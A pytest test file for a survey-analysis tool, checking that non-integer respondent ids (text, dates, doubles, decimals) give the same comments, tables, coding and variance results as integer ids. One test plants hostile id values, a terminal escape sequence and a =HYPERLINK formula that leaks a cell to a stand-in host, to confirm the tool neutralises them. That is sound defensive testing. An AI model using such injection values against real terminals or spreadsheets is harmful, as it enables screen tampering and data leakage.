"""Respondent ids stored other than as integers (text such as a platform's "R_4", dates,
whole numbers as doubles or decimals): a bundle holding them opens, every route through the
comments gives what the same survey with integer ids gives, and the data owner's source ids
show as the file holds them."""

from __future__ import annotations

import csv
import datetime
import io
import json
import shutil

import polars as pl
import pytest

from cli_helpers import one_sentence
from cli_helpers import run_here as run
from heetui.engine.session import open_survey
from heetui.survey.bundle import bundled_survey_path
from heetui.tui.app import HeetuiApp
from heetui.tui.verbatim_screen import VerbatimScreen
from tui_helpers import running, settle

KINDS = {  # how the ids are stored, and how the data owner reads integer id n then
    "text": (lambda c: pl.format("R_{}", c), lambda n: f"R_{n}"),
    "date": (lambda c: pl.lit(datetime.date(2019, 1, 1)) + pl.duration(days=c),
             lambda n: str(datetime.date(2019, 1, 1) + datetime.timedelta(days=n))),
    # whole numbers stored as doubles (an SPSS file's) or decimals read as whole numbers
    "double": (lambda c: c.cast(pl.Float64), lambda n: n),
    "decimal": (lambda c: c.cast(pl.Decimal(12, 2)), lambda n: n),
}


def _with_ids(tmp_path, kind: str, comments_too: bool = True):
    """The bundled survey with its respondent ids (and its comments' ids) made ``kind``."""
    folder = tmp_path / kind
    shutil.copytree(bundled_survey_path(), folder)
    (folder / "heetui-files.sha256").unlink(missing_ok=True)
    make = KINDS[kind][0]
    for name in ("respondents", "verbatims") if comments_too else ("respondents",):
        path = folder / f"{name}.parquet"
        frame = pl.read_parquet(path)
        frame.with_columns(make(pl.col("respondent_id")).alias("respondent_id")) \
            .write_parquet(path)
    return folder


def _json(*args: str):
    r = run(*args, "--format", "json")
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_comments_read_the_same_whatever_the_ids_are(tmp_path, kind):
    folder, plain = _with_ids(tmp_path, kind), bundled_survey_path()
    assert run("--data", str(folder), "check", "--no-edits").returncode == 0
    for args in (("verbatims", "--limit", "40"),
                 ("verbatims", "--question", "relationship_why", "--filter",
                  "stakeholder_type=2", "--limit", "40"),
                 ("words", "relationship_why", "--by", "stakeholder_type"),
                 ("tab", "relationship_why", "--by", "stakeholder_type"),
                 ("tab", "relationship", "--by", "region", "--weighted")):
        got = _json("--data", str(folder), "--no-edits", *args)
        assert got == _json("--data", str(plain), "--no-edits", *args), args
    # the data owner's ids: as the file holds them, beside the same comments
    owner = _json("--data", str(folder), "--no-edits", "verbatims", "--limit", "30",
                  "--show-source-ids")
    ints = _json("--data", str(plain), "--no-edits", "verbatims", "--limit", "30",
                 "--show-source-ids")
    shown = KINDS[kind][1]
    pairs = [(a.get("respondent_id"), b.get("respondent_id"))
             for a, b in zip(owner["comments"], ints["comments"], strict=True)]
    assert any(b is not None for _, b in pairs)
    assert all(a == (None if b is None else shown(b)) for a, b in pairs)


@pytest.mark.parametrize("kind", ["date", "text"])
def test_quotes_and_coding_with_ids_that_are_not_numbers(tmp_path, kind):
    folder = _with_ids(tmp_path, kind)
    outputs = []
    for data in (folder, bundled_survey_path()):
        ws = tmp_path / f"{data.name}-{kind}.toml"
        for args in (("code", "add", "improve", "Placements"),
                     ("code", "apply", "improve", "Placements", "--search", "placement"),
                     ("code", "comment", "improve", "356", "Placements"),
                     ("quotes", "--question", "improve", "--star", "356", "357")):
            r = run("--data", str(data), "--workspace", str(ws), *args)
            assert r.returncode == 0, r.stderr
        table = _json("--data", str(data), "--workspace", str(ws), "tab", "improve", "--by",
                      "stakeholder_type")
        quotes = run("--data", str(data), "--workspace", str(ws), "quotes", "--format", "md")
        outputs.append((table, quotes.stdout))
    assert outputs[0] == outputs[1]
    assert "NHS Trust" in outputs[0][1]  # attributed as the integer-id survey is


def test_comment_ids_of_another_type_than_the_respondents_are_named(tmp_path):
    folder = _with_ids(tmp_path, "text", comments_too=False)
    msg = one_sentence(run("--data", str(folder), "info"))
    assert "respondent_id: expected text (the type of the respondents' ids), found " \
        "integer" in msg


async def test_the_comments_view_opens_on_text_ids(tmp_path):
    survey = open_survey(_with_ids(tmp_path, "text"), edits=False)
    async with running(HeetuiApp(survey)) as (app, pilot):
        await pilot.press("v")
        await settle(app, pilot)
        assert isinstance(app.screen, VerbatimScreen) and app.screen.shown is not None
        page = app.screen.shown[1]
        assert page.items and any(v.attributes for v in page.items)


def test_text_ids_reach_the_terminal_and_spreadsheets_neutralised(tmp_path):
    """An id is the file's text: shown to the data owner with its control characters as
    visible escapes, and never as a formula in a CSV."""
    folder = _with_ids(tmp_path, "text")
    hostile = {"R_4": "\x1b]0;pwned\x07\x1b[2J", "R_5": '=HYPERLINK("http://x/?"&A1,"x")'}
    for name in ("respondents", "verbatims"):
        path = folder / f"{name}.parquet"
        frame = pl.read_parquet(path)
        frame.with_columns(pl.col("respondent_id").replace(hostile)).write_parquet(path)
    args = ("--data", str(folder), "--no-edits", "verbatims", "--limit", "2",
            "--show-source-ids")
    text = run(*args)
    assert text.returncode == 0, text.stderr
    assert "\x1b" not in text.stdout and "\x07" not in text.stdout
    assert "respondent \\x1b]0;pwned" in text.stdout  # the escapes, visible
    rows = list(csv.DictReader(io.StringIO(run(*args, "--format", "csv").stdout)))
    assert [r["respondent_id"] for r in rows] == [
        "\x1b]0;pwned\x07\x1b[2J", "'" + hostile["R_5"]]


@pytest.mark.parametrize("kind", ["date", "text"])
def test_design_based_variance_with_ids_as_the_psus(tmp_path, kind):
    """A design of strata alone takes each respondent (by id) as a PSU: the same variances
    and letters whatever type the ids are."""
    got = []
    for folder in (_with_ids(tmp_path, kind), tmp_path / "plain"):
        if not folder.exists():
            shutil.copytree(bundled_survey_path(), folder)
            (folder / "heetui-files.sha256").unlink(missing_ok=True)
        codebook = folder / "codebook.toml"
        codebook.write_text(codebook.read_text().replace(
            "[survey]\n", '[survey]\ndesign = { strata = "stakeholder_type" }\n', 1))
        got.append(_json("--data", str(folder), "--no-edits", "tab", "relationship", "--by",
                         "region", "--weighted"))
    assert "602 PSUs" in got[0]["design"] and got[0] == got[1]
